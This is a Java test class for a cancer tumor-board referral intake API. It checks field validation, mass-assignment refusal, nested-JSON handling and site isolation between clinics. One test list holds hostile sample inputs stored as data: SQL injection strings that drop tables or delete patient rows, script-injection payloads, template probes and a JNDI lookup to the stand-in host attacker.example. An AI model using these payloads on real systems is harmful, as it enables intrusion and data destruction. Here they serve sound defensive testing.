package org.tumorboard.intake.rest;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.everyItem;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.tumorboard.intake.IntakeApi;
import org.tumorboard.intake.Referrals;
import org.tumorboard.testsupport.Tokens;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;

/** Attacks on intake's input (issue #11): each answered with the right status, nothing stored that should not be. */
@QuarkusTest
class AttackInputsTest {

    /** Server-owned fields sent by a client: refused by name, nothing created. */
    static List<Object[]> massAssignment() {
        return List.of(
                new Object[] { "status", "PLAN_DECIDED", "status" },
                new Object[] { "caseId", "00000000-0000-0000-0000-000000000001", "caseId" },
                new Object[] { "grade", "G1", "grade" },
                new Object[] { "stage", "IA", "stage" },
                new Object[] { "referredBy", "someone-else", "referredBy" },
                new Object[] { "patient.site", "SPOKE-SOUTH", "patient.site" },
                new Object[] { "imaging.workupComplete", true, "imaging.workupComplete" });
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("massAssignment")
    void serverOwnedFieldsAreRefusedByName(String path, Object value, String field) {
        long before = total();
        given().auth().oauth2(Tokens.hubCoordinator()).contentType(ContentType.JSON)
                .body(Referrals.with(Referrals.valid("HUB"), path, value)).post("/api/referrals")
                .then().statusCode(400).contentType("application/problem+json")
                .body("errors.field", contains(field));
        assertEquals(before, total(), "nothing created");
    }

    /** Free text stored verbatim and returned as a JSON string: no query, script or template is ever run. */
    static List<String> injections() {
        return List.of("'; DROP TABLE intake_case; --", "\" OR 1=1 --", "<script>alert('x')</script>",
                "<img src=x onerror=alert(1)>", "${jndi:ldap://attacker.example/a}", "{{7*7}} #{7*7} ${7*7}",
                "Robert'); DELETE FROM patient WHERE ('1'='1", "\\u0000 null byte? \\\\ backslashes \\\\",
                "line\nbreak\tand\rreturn", "%00%27%22%3C");
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("injections")
    void injectionStringsAreStoredVerbatimAndHaveNoEffect(String text) {
        String caseId = IntakeApi.refer(Referrals.with(Referrals.valid("HUB"), "clinicalQuestion", text));
        given().auth().oauth2(Tokens.hubCoordinator()).get("/api/cases/" + caseId).then().statusCode(200)
                .contentType(ContentType.JSON)
                .body("clinicalQuestion", equalTo(text));
        given().auth().oauth2(Tokens.hubCoordinator()).get("/api/cases").then().statusCode(200);
    }

    @Test
    void unicodeNamesComeBackExactly() {
        String given = "Zoë Ångström-Łukasiewicz";
        String family = "Ñúñez 李 محمد Ødegård 😀 \u200F";
        String caseId = IntakeApi.refer(Referrals.with(Referrals.with(Referrals.valid("HUB"), "patient.givenName", given),
                "patient.familyName", family));
        given().auth().oauth2(Tokens.hubCoordinator()).get("/api/cases/" + caseId).then()
                .body("patient.givenName", equalTo(given)).body("patient.familyName", equalTo(family));
    }

    /** Numbers as strings, floats where integers belong, strings for booleans: 400 naming the field. */
    static List<Object[]> wrongTypes() {
        return List.of(
                new Object[] { "imaging.greatestDimensionCm", "22", "imaging.greatestDimensionCm" },
                new Object[] { "imaging.greatestDimensionCm", true, "imaging.greatestDimensionCm" },
                new Object[] { "imaging.macroscopicFat", "true", "imaging.macroscopicFat" },
                new Object[] { "imaging.macroscopicFat", 1, "imaging.macroscopicFat" },
                new Object[] { "neoadjuvantConsidered", "yes", "neoadjuvantConsidered" },
                new Object[] { "neoadjuvantConsidered", null, "neoadjuvantConsidered" },
                new Object[] { "patient.mrn", 12345, "patient.mrn" },
                new Object[] { "clinicalQuestion", 42.5, "clinicalQuestion" },
                new Object[] { "patient.birthDate", 19610402, "patient.birthDate" },
                new Object[] { "imaging.side", 0, "imaging.side" },
                new Object[] { "imaging.compartment", 1, "imaging.compartment" });
    }

    @ParameterizedTest(name = "{0} = {1}")
    @MethodSource("wrongTypes")
    void wrongTypesAreRefusedByName(String path, Object value, String field) {
        long before = total();
        given().auth().oauth2(Tokens.hubCoordinator()).contentType(ContentType.JSON)
                .body(Referrals.with(Referrals.valid("HUB"), path, value)).post("/api/referrals")
                .then().statusCode(400).contentType("application/problem+json")
                .body("errors.field", contains(field));
        assertEquals(before, total());
    }

    @Test
    void deeplyNestedAndTrailingJsonIs400NotA500() {
        for (String body : List.of("[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
                "{}{}", "{\"referringSite\":\"HUB\"} trailing")) {
            given().auth().oauth2(Tokens.hubCoordinator()).contentType(ContentType.JSON).body(body).post("/api/referrals")
                    .then().statusCode(400).contentType("application/problem+json");
        }
    }

    @Test
    void anotherSitesCasesCannotBeListedThroughTheQuery() {
        IntakeApi.refer(Referrals.valid("SPOKE-SOUTH"));
        given().auth().oauth2(Tokens.spokeCoordinator("SPOKE-NORTH")).queryParam("site", "SPOKE-SOUTH").queryParam("size", 100)
                .get("/api/cases").then().statusCode(200)
                .body("items.referringSite", everyItem(equalTo("SPOKE-NORTH")));
        given().auth().oauth2(Tokens.spokeCoordinator("SPOKE-NORTH")).header("X-Site", "HUB").queryParam("size", 100)
                .get("/api/cases").then().statusCode(200)
                .body("items.referringSite", everyItem(equalTo("SPOKE-NORTH")))
                .body(not(containsString("SPOKE-SOUTH")));
    }

    private static long total() {
        return given().auth().oauth2(Tokens.hubCoordinator()).queryParam("size", 1).get("/api/cases").then().statusCode(200)
                .extract().jsonPath().getLong("total");
    }
}
